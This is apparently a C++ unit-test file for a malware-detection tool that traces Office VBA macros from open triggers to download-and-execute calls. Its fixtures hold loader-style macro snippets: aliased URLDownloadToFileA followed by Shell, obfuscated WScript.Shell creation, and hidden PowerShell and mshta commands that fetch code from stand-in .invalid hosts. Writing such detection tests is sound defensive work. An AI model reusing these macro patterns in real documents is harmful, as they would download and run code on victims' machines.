// The `chain` features (schema v5): a true open/close trigger that reaches a download and an execute through the
// project's calls, on Word files with VBA built here (tests/support/cfb_builder), and the call-graph walk itself
// (features::office::analyze_chain) on module text: click handlers are not triggers, recursion ends, the depth is
// bounded, obfuscated Declare aliases and evaluator-recovered class names count.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "analysis/iocs.hpp"
#include "features/office_features.hpp"
#include "features/office_internal.hpp"
#include "support/cfb_builder.hpp"
#include "support/office_sample.hpp"

namespace {

using namespace mamori;
using namespace mamori::test;
using features::office::analyze_chain;
using features::office::ChainModule;
using features::office::ChainStats;

VbaModuleSpec module(const std::string& name, const std::string& code, bool procedural = true) {
  return {name, "Attribute VB_Name = \"" + name + "\"\r\n" + code, std::vector<std::uint8_t>(600, 0xA5), procedural};
}

features::OfficeSample word(std::vector<VbaModuleSpec> modules) {
  VbaSpec v;
  v.modules = std::move(modules);
  return featurize(build_word_doc(v));
}

// The chain of one module's text, without the evaluator.
ChainStats chain_of(const std::string& code) {
  ChainStats s;
  analyze_chain({ChainModule{"Module1", code}}, nullptr, s);
  return s;
}

TEST(OfficeChain, DocumentOpenReachesDownloadAndShellThroughHelpers) {
  // The trigger only calls a helper in another module, which calls the downloader and then the runner; the API
  // is declared under a harmless name with the real one as its Alias.
  const auto s = word({module("ThisDocument", "Private Sub Document_Open()\r\n  Module1.Prepare\r\nEnd Sub\r\n", false),
                       module("Module1",
                              "Private Declare PtrSafe Function Fetch Lib \"urlmon\" Alias \"URLDownloadToFileA\" _\r\n"
                              "  (ByVal a As Long, ByVal b As String, ByVal c As String, ByVal d As Long, _\r\n"
                              "   ByVal e As Long) As Long\r\n"
                              "Sub Prepare()\r\n  Call GetIt\r\n  RunIt\r\nEnd Sub\r\n"
                              "Sub GetIt()\r\n  Fetch 0, \"http://dl.example.invalid/a.exe\", Environ(\"TEMP\") & \"\\a.exe\", 0, 0\r\nEnd Sub\r\n"
                              "Sub RunIt()\r\n  x = Shell(Environ(\"TEMP\") & \"\\a.exe\", 0)\r\nEnd Sub\r\n")});
  EXPECT_EQ(feature(s, "chain.trigger_execute"), 1.0f);
  EXPECT_EQ(feature(s, "chain.trigger_download_execute"), 1.0f);
  EXPECT_EQ(feature(s, "chain.trigger_executable_string"), 1.0f);
  EXPECT_EQ(feature(s, "chain.trigger_remote_executable"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "macro-loader");
}

TEST(OfficeChain, HelperDepthAndReach) {
  ChainStats s;
  const std::string doc = "Private Sub Document_Open()\r\n  Module1.Prepare\r\nEnd Sub\r\n";
  const std::string mod = "Sub Prepare()\r\n  Call GetIt\r\n  RunIt\r\nEnd Sub\r\n"
                          "Sub GetIt()\r\n  URLDownloadToFile 0, \"http://a.invalid/b\", \"c\", 0, 0\r\nEnd Sub\r\n"
                          "Sub RunIt()\r\n  Shell \"c\"\r\nEnd Sub\r\nSub Unused()\r\n  Shell \"d\"\r\nEnd Sub\r\n";
  analyze_chain({ChainModule{"ThisDocument", doc}, ChainModule{"Module1", mod}}, nullptr, s);
  EXPECT_EQ(s.trigger_download, 1.0);
  EXPECT_EQ(s.trigger_download_execute, 1.0);
  EXPECT_EQ(s.reached_procedures, 4.0);  // Document_Open, Prepare, GetIt, RunIt; not Unused
  EXPECT_EQ(s.max_depth, 2.0);
}

TEST(OfficeChain, ClickHandlerWebRequestIsNotAChain) {
  // A form button that fetches a page and opens a program: the old document-wide flags fire, the chain does not.
  const std::string code =
      "Private Sub CommandButton1_Click()\r\n"
      "  Set h = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
      "  h.Open \"GET\", \"https://api.example.invalid/rates\", False\r\n  h.Send\r\n"
      "  Range(\"A1\").Value = h.responseText\r\n  Shell \"notepad.exe\", vbNormalFocus\r\n"
      "End Sub\r\n";
  const auto s = word({module("ThisDocument", code, false)});
  EXPECT_EQ(feature(s, "behaviour.autoexec_download_execute"), 1.0f);
  for (const char* f : {"chain.trigger_execute", "chain.trigger_download_execute",
                        "chain.trigger_executable_string", "chain.trigger_write_execute"})
    EXPECT_EQ(feature(s, f), 0.0f) << f;
  // Not reached from a trigger, but the one procedure holds both.
  EXPECT_EQ(feature(s, "chain.download_execute_procedures"), 1.0f);
  EXPECT_EQ(features::office_rule(s.x), "");
  const auto c = chain_of(code);
  EXPECT_EQ(c.triggers, 0.0);
  EXPECT_EQ(c.reached_procedures, 0.0);
}

TEST(OfficeChain, LoaderRuleNeedsMoreThanAnExecute) {
  // Workbook_Open opens a folder in Explorer: an execute, nothing else; not the rule.
  const auto plain = word({module("ThisWorkbook",
                                  "Private Sub Workbook_Open()\r\n  Shell \"explorer.exe C:\\Reports\", vbNormalFocus\r\n"
                                  "End Sub\r\n",
                                  false)});
  EXPECT_EQ(feature(plain, "chain.trigger_execute"), 1.0f);
  EXPECT_EQ(feature(plain, "chain.trigger_object_by_expression"), 0.0f);
  EXPECT_EQ(features::office_rule(plain.x), "");
  // The same trigger running a program through a class whose name it assembles: the rule.
  const auto computed = word({module("ThisWorkbook",
                                     "Private Sub Workbook_Open()\r\n  Go\r\nEnd Sub\r\n"
                                     "Sub Go()\r\n  Set o = CreateObject(StrReverse(\"llehS.tpircSW\"))\r\n"
                                     "  o.Run \"c:\\users\\public\\a.vbs\", 0\r\nEnd Sub\r\n",
                                     false)});
  EXPECT_EQ(feature(computed, "chain.trigger_execute"), 1.0f);
  EXPECT_EQ(feature(computed, "chain.trigger_object_by_expression"), 1.0f);
  EXPECT_EQ(features::office_rule(computed.x), "macro-loader");
}

// Emotet's 2020 .docx: the class name is built from a literal and a document property the static evaluator cannot
// read, so "wscript.shell" never appears; .Exec on that computed class is still an execute, and the loader rule
// names it. The same .Exec on an object whose class is written out (a plain "Some.Class") is not.
TEST(OfficeChain, ExecOnAClassNameBuiltFromADocumentPropertyExecutes) {
  const auto hidden = chain_of(
      "Public Function s(a, b)\r\n"
      "  CreateObject(a + ActiveDocument.BuiltInDocumentProperties(\"category\").Value).exec \"c:\\windows\\explorer \" + b\r\n"
      "End Function\r\n"
      "Public Sub autoopen()\r\n  k = \"script\"\r\n  s Trim(\"w\" + k + \".\"), \"x\"\r\nEnd Sub\r\n");
  EXPECT_EQ(hidden.trigger_execute, 1.0);
  EXPECT_EQ(hidden.trigger_object_by_expression, 1.0);
  const auto plain = chain_of("Sub AutoOpen()\r\n  CreateObject(\"Acme.Reports\").Exec \"monthly\"\r\nEnd Sub\r\n");
  EXPECT_EQ(plain.trigger_execute, 0.0);
  EXPECT_EQ(plain.trigger_object_by_expression, 0.0);
}

TEST(OfficeChain, OpenTriggerThatOnlyFormatsIsNothing) {
  const auto s = chain_of("Private Sub Workbook_Open()\r\n  Application.Run \"Tidy\"\r\nEnd Sub\r\n"
                          "Sub Tidy()\r\n  Range(\"A1:D20\").Font.Bold = True\r\nEnd Sub\r\n");
  EXPECT_EQ(s.triggers, 1.0);
  EXPECT_EQ(s.reached_procedures, 2.0);  // Run "Tidy" is a call
  EXPECT_EQ(s.trigger_execute, 0.0);     // Application.Run runs a macro, not a program
  EXPECT_EQ(s.trigger_download, 0.0);
}

TEST(OfficeChain, EvaluatedClassNameAndCommandCount) {
  // WScript.Shell exists only once the evaluator joins the pieces; its .Run is then an execute.
  const auto s = word({module("Module1",
                              "Sub AutoOpen()\r\n  Dim o As Object\r\n"
                              "  Set o = CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\r\n"
                              "  o.Run \"power\" & \"shell -w hidden -c iwr http://x.example.invalid/p -o p.exe\", 0\r\n"
                              "End Sub\r\n")});
  EXPECT_EQ(feature(s, "chain.trigger_execute"), 1.0f);
  EXPECT_EQ(feature(s, "chain.trigger_download_execute"), 1.0f);  // the command fetches (iwr) from a web URL
  EXPECT_EQ(feature(s, "chain.trigger_object_by_expression"), 1.0f);
  EXPECT_EQ(feature(s, "chain.trigger_executable_string"), 1.0f);  // powershell, p.exe
}

TEST(OfficeChain, MutualRecursionTerminates) {
  const auto s = chain_of(
      "Sub AutoOpen()\r\n  Ping 3\r\nEnd Sub\r\n"
      "Sub Ping(n)\r\n  If n > 0 Then Pong n - 1\r\n  Ping n\r\nEnd Sub\r\n"
      "Sub Pong(n)\r\n  Ping n\r\n  Shell \"cmd /c start x.exe\"\r\nEnd Sub\r\n");
  EXPECT_EQ(s.triggers, 1.0);
  EXPECT_EQ(s.trigger_execute, 1.0);
  EXPECT_EQ(s.trigger_download, 0.0);
  EXPECT_EQ(s.reached_procedures, 3.0);
}

TEST(OfficeChain, CallDepthIsBounded) {
  // AutoOpen -> P1 -> P2 -> ... -> Pn; only Pn runs something. Reached while n is within the bound, not beyond.
  auto chain = [](std::uint32_t n) {
    std::string code = "Sub AutoOpen()\r\n  P1\r\nEnd Sub\r\n";
    for (std::uint32_t i = 1; i < n; ++i)
      code += "Sub P" + std::to_string(i) + "()\r\n  P" + std::to_string(i + 1) + "\r\nEnd Sub\r\n";
    code += "Sub P" + std::to_string(n) + "()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n";
    return chain_of(code);
  };
  const auto limit = features::office::chain_limits::max_call_depth;
  const auto within = chain(limit);
  EXPECT_EQ(within.trigger_execute, 1.0);
  EXPECT_EQ(within.max_depth, static_cast<double>(limit));
  const auto beyond = chain(limit + 1);
  EXPECT_EQ(beyond.trigger_execute, 0.0);
  EXPECT_EQ(beyond.reached_procedures, static_cast<double>(limit) + 1);
}

TEST(OfficeChain, ActiveXDrawEventsAreTriggersAndClicksAreNot) {
  const std::string body = "()\r\n  CreateObject(\"WScript.Shell\").Exec \"mshta http://x.example.invalid/a.hta\"\r\nEnd Sub\r\n";
  for (const char* name : {"InkPicture1_Painted", "Frame1_Layout", "WebBrowser1_DocumentComplete", "Workbook_BeforeClose"}) {
    const auto s = chain_of(std::string("Private Sub ") + name + body);
    EXPECT_EQ(s.triggers, 1.0) << name;
    EXPECT_EQ(s.trigger_download_execute, 1.0) << name;  // mshta on a URL fetches and runs
  }
  for (const char* name : {"CommandButton1_Click", "UserForm_Layout", "TextBox1_Change", "Helper"}) {
    const auto s = chain_of(std::string("Private Sub ") + name + body);
    EXPECT_EQ(s.triggers, 0.0) << name;
    EXPECT_EQ(s.trigger_execute, 0.0) << name;
    EXPECT_EQ(s.download_execute_procedures, 1.0) << name;
  }
}

TEST(OfficeChain, NamesThatOnlyLookLikePrimitives) {
  // A variable called shell, a procedure called DownloadFile that only shows a message, Application.Run: none is
  // a download or an execute.
  const auto s = chain_of(
      "Sub Auto_Open()\r\n  Dim shell As Object\r\n  Set shell = Nothing\r\n  DownloadFile\r\n"
      "  Application.Run \"Report\"\r\nEnd Sub\r\n"
      "Sub DownloadFile()\r\n  MsgBox \"Please download the new version from the intranet\"\r\nEnd Sub\r\n"
      "Sub Report()\r\n  Range(\"A1\").Value = 1\r\nEnd Sub\r\n");
  EXPECT_EQ(s.triggers, 1.0);
  EXPECT_EQ(s.reached_procedures, 3.0);
  EXPECT_EQ(s.trigger_download, 0.0);
  EXPECT_EQ(s.trigger_execute, 0.0);
}

TEST(OfficeChain, EvaluatorStringsLandOnTheirProcedure) {
  // The evaluator says line 5 of Module1 built a command; line 5 is inside Stage2, which Document_Open calls.
  analysis::Evaluation ev;
  ev.iocs.push_back({"command", "rundll32 c:\\users\\public\\x.dll,Start", "vba:Module1:5"});
  ev.iocs.push_back({"url", "http://y.example.invalid/z.dll", "vba:Module1:5 (decoded powershell)"});
  ChainStats s;
  const std::string code =
      "Sub Document_Open()\r\n  Stage2\r\nEnd Sub\r\n"
      "Sub Stage2()\r\n  c = Build(1)\r\nEnd Sub\r\n";
  analyze_chain({ChainModule{"Module1", code}}, &ev, s);
  EXPECT_EQ(s.trigger_command, 1.0);
  EXPECT_EQ(s.trigger_remote_executable, 1.0);
  EXPECT_EQ(s.trigger_executable_string, 1.0);
  EXPECT_EQ(s.trigger_download, 1.0);  // a URL naming an executable is fetched to be run
  // A place in another module, or outside any procedure, is ignored.
  analysis::Evaluation other;
  other.iocs.push_back({"command", "rundll32 x.dll,Start", "vba:Module2:5"});
  other.iocs.push_back({"command", "rundll32 x.dll,Start", "vba:Module1:99"});
  ChainStats t;
  analyze_chain({ChainModule{"Module1", code}}, &other, t);
  EXPECT_EQ(t.trigger_command, 0.0);
  EXPECT_EQ(t.trigger_executable_string, 0.0);
}

TEST(OfficeChain, HostileTextEndsWithinBounds) {
  // Unclosed procedures, a header with no name, quotes left open, continuation lines to the end, empty input.
  for (const std::string code : {std::string(), std::string("Sub\r\n"), std::string("Sub A(\r\n  \"open _\r\n _\r\n"),
                                 std::string("End Sub\r\nEnd Sub\r\nSub AutoOpen() : Shell \"x\" : End Sub"),
                                 std::string(200000, '_'), std::string(50000, '"')}) {
    const auto s = chain_of(code);
    EXPECT_LE(s.triggers, 1.0);
  }
  // One statement on one line with the header: Sub AutoOpen() : Shell "x" : End Sub.
  const auto one_line = chain_of("Sub AutoOpen() : Shell \"calc\" : End Sub\r\n");
  EXPECT_EQ(one_line.trigger_execute, 1.0);
}

}  // namespace
